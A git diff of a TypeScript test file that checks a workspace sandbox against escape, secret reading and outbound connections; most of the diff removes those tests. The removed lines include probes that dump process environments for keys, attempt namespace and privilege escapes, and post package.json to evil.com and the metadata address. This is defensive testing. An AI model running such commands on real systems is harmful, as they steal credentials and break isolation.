@@ -1,4 +1,4 @@
-/** What hostile code inside tries, for real, by the ids of the list of attacks. */
+/** What hostile code inside tries, where more than one command and its output is needed; the rest is in ../attacks. */
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import {
@@ -13,7 +13,7 @@ import {
 } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
-import { networkInterfaces, tmpdir } from "node:os";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -28,27 +28,19 @@ ensureGuest();
 let folder: string;
 let driver: WorkspaceDriver;
 let workspace: Workspace;
-let hostService: Server;
-let hostPort: number;
 const notices: WorkspaceNotice[] = [];
 
 const out = async (command: string, options = {}) => {
   const exit = await workspace.run(command, { quietMs: 20_000, ...options });
   return exit.output;
 };
-const SECRET = "sk-provider-key-of-the-server";
 
 beforeAll(async () => {
   folder = mkdtempSync(join(tmpdir(), "treadle-attacks-"));
   chmodSync(folder, 0o755);
-  process.env.TREADLE_TEST_KEY = SECRET;
-  hostService = createServer((_, response) => response.end("a service of the host"));
-  hostService.listen(0, "0.0.0.0");
-  await once(hostService, "listening");
-  hostPort = (hostService.address() as AddressInfo).port;
   driver = createLocalDriver({
     cacheDirectory: join(folder, "cache"),
-    env: { ...process.env, OPENAI_API_KEY: SECRET },
+    env: process.env,
   });
   workspace = await driver.open({
     project: `attacks-${process.pid}`,
@@ -59,23 +51,11 @@ beforeAll(async () => {
 }, 60_000);
 
 afterAll(async () => {
-  delete process.env.TREADLE_TEST_KEY;
   await driver.close();
-  hostService.close();
   rmSync(folder, { recursive: true, force: true });
 });
 
 describe("what can be read", () => {
-  it("A33 no key of the server stands in any environment inside", async () => {
-    const all = await out(
-      "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' '\\n'",
-    );
-    expect(all).toContain("PATH=");
-    expect(all).not.toContain(SECRET);
-    expect(all).not.toContain("TREADLE_TEST_KEY");
-    expect(all).not.toContain(process.env.HOME === "/" ? "\u0000" : `=${process.env.HOME}\n`);
-  });
-
   it("no file of the host but /usr and a few of /etc is there", async () => {
     const seen = await out("ls -A / /etc /home /run /tmp 2>&1");
     for (const name of ["root", "work", "var", "srv", "shadow", "sudoers", "boot", "sys"])
@@ -84,61 +64,9 @@ describe("what can be read", () => {
       /root:\$|registry/,
     );
   });
-
-  it("another project's files are not there, by any path", async () => {
-    const other = await driver.open({
-      project: `other-${process.pid}`,
-      directory: join(folder, "other"),
-      stateDirectory: join(folder, "other-state"),
-    });
-    await other.files.write("private.txt", "the other's secret");
-    const tried = await out(
-      `cat ${folder}/other/private.txt ../other/private.txt /proc/1/root${folder}/other/private.txt /proc/*/cwd/private.txt 2>&1; grep -rs "the other's" /run /tmp /home | head`,
-    );
-    expect(tried).not.toContain("secret\n");
-    expect(tried).not.toContain(": the other's");
-    await other.stop();
-  });
-
-  it("the host's processes are not seen", async () => {
-    expect(await out("ls /proc | grep -c '^[0-9]'")).toMatch(/^\d\n$/);
-    expect(
-      await out(`ls /proc/${process.pid}/environ 2>&1; kill -0 ${process.pid} 2>&1`),
-    ).toContain("No such");
-  });
 });
 
 describe("what can be written", () => {
-  it("nothing outside the project and its own temporary folders", async () => {
-    const tried = await out(
-      "for f in /usr/x /etc/x /x /run/treadle/guest/guest.mjs /run/treadle/npm/package.json /run/treadle/node/bin/node /run/sbx/x /etc/passwd /proc/sys/kernel/hostname /proc/sysrq-trigger /dev/x; do (echo x >> $f) 2>/dev/null && echo WROTE $f; done; echo end",
-    );
-    expect(tried).toBe("end\n");
-  });
-
-  it("no mount, no namespace, no privilege can be had", async () => {
-    const tried = await out(
-      [
-        "mount -t tmpfs x /mnt && echo GOT mount",
-        "unshare -U true && echo GOT userns",
-        "unshare -Urm true && echo GOT mountns",
-        "unshare -n true && echo GOT netns",
-        "chroot / true && echo GOT chroot",
-        "sudo -n true && echo GOT sudo",
-        "su -c true && echo GOT su",
-        "bwrap --unshare-user --bind / / true && echo GOT bwrap",
-        "mknod /tmp/disk b 254 0 && echo GOT mknod",
-        "chown 0 . && echo GOT chown",
-        "nsenter -t 1 -m true && echo GOT nsenter",
-      ]
-        .map((line) => `(${line}) 2>/dev/null`)
-        .join("\n") + "\ngrep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status",
-    );
-    expect(tried).not.toContain("GOT");
-    expect(tried).toMatch(/CapEff:\s0+\n/);
-    expect(tried).toMatch(/NoNewPrivs:\s1\n/);
-  });
-
   it("A34 a postinstall script touches only the sandbox", async () => {
     await workspace.files.write(
       "evil/package.json",
@@ -158,93 +86,9 @@ describe("what can be written", () => {
 });
 
 describe("where it can connect to", () => {
-  const program = (host: string, port: number) =>
-    `node -e 'const s=require("net").connect({host:${JSON.stringify(host)},port:${port},timeout:2000});s.on("connect",()=>{console.log("CONNECTED");process.exit()});s.on("timeout",()=>{console.log("timeout");process.exit()});s.on("error",e=>{console.log(e.code);process.exit()})'`;
-
-  it("A31 no service of the host: loopback, its own address, IPv6, by number or by name", async () => {
-    const own = Object.values(networkInterfaces())
-      .flat()
-      .map((entry) => entry!.address);
-    for (const host of ["127.0.0.1", "::1", "localhost", "0.0.0.0", "::ffff:127.0.0.1", ...own])
-      expect([host, await out(program(host, hostPort))]).not.toEqual([host, "CONNECTED\n"]);
-  });
-
-  it("A31 no address outside, metadata and IPv6 among them, with the proxy's variables unset", async () => {
-    for (const host of [
-      "1.1.1.1",
-      "169.254.169.254",
-      "10.0.0.1",
-      "2606:4700:4700::1111",
-      "fe80::1",
-    ]) {
-      const tried = await out(
-        `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NODE_USE_ENV_PROXY ${program(host, 80)}`,
-      );
-      expect(tried).toMatch(/ENETUNREACH|EHOSTUNREACH|EINVAL|EADDRNOTAVAIL/);
-    }
-  });
-
-  it("A28 a name is not even looked up", async () => {
-    expect(
-      await out(`node -e 'require("dns").lookup("secret.evil.com",e=>console.log(e.code))'`),
-    ).toMatch(/EAI_AGAIN|ENOTFOUND/);
-    expect(
-      await out(`node -e 'require("dns").resolve("secret.evil.com",e=>console.log(e.code))'`),
-    ).toMatch(/ECONNREFUSED|ETIMEOUT|ENOTFOUND/);
-  });
-
-  it("A27 A29 what goes through the proxy is refused by name, and told", async () => {
-    for (const host of [
-      "evil.com",
-      "registry.npmjs.org.evil.com",
-      "evil-registry.npmjs.org",
-      "169.254.169.254",
-      "localhost",
-    ])
-      expect(
-        await out(
-          `curl -sS -m 5 https://${host}/ --noproxy '' 2>&1 | head -c 300; curl -sS -m 5 -d "$(cat package.json 2>/dev/null)" http://${host}/ --noproxy '' 2>&1 | head -c 300`,
-        ),
-      ).toMatch(/403|nothing else/);
-    const told = notices.flatMap((notice) =>
-      notice.type === "egress-refused" ? [notice.host] : [],
-    );
-    for (const host of ["evil.com", "registry.npmjs.org.evil.com", "169.254.169.254"])
-      expect(told).toContain(host);
-  });
-
-  it("A16 through the proxy no other port than 443, and no address, whatever its spelling", async () => {
-    for (const target of [
-      "registry.npmjs.org:22",
-      `127.0.0.1:${hostPort}`,
-      "0x7f000001:443",
-      "[::1]:443",
-      "2130706433:443",
-      "evil\\0.registry.npmjs.org:443",
-    ]) {
-      const tried = await out(
-        `node -e 'const s=require("net").connect(4874,"127.0.0.1",()=>s.write("CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()});s.on("close",()=>process.exit())'`,
-      );
-      expect([target, tried]).not.toEqual([target, expect.stringContaining("200")]);
-    }
-  });
-
   it("A16 a preview reaches neither way out of its sandbox", async () => {
     for (const port of [4873, 4874])
       await expect(workspace.connect(port)).rejects.toMatchObject({ code: "port" });
-  });
-
-  it("sockets of the host in the abstract namespace are another namespace's", async () => {
-    const abstract = `\0treadle-test-${process.pid}`;
-    const server = createServer((_, response) => response.end());
-    server.listen(abstract);
-    await once(server, "listening");
-    expect(
-      await out(
-        `node -e 'const s=require("net").connect("\\0treadle-test-${process.pid}");s.on("connect",()=>console.log("CONNECTED"));s.on("error",e=>console.log(e.code))'`,
-      ),
-    ).not.toContain("CONNECTED");
-    server.close();
   });
 });
 
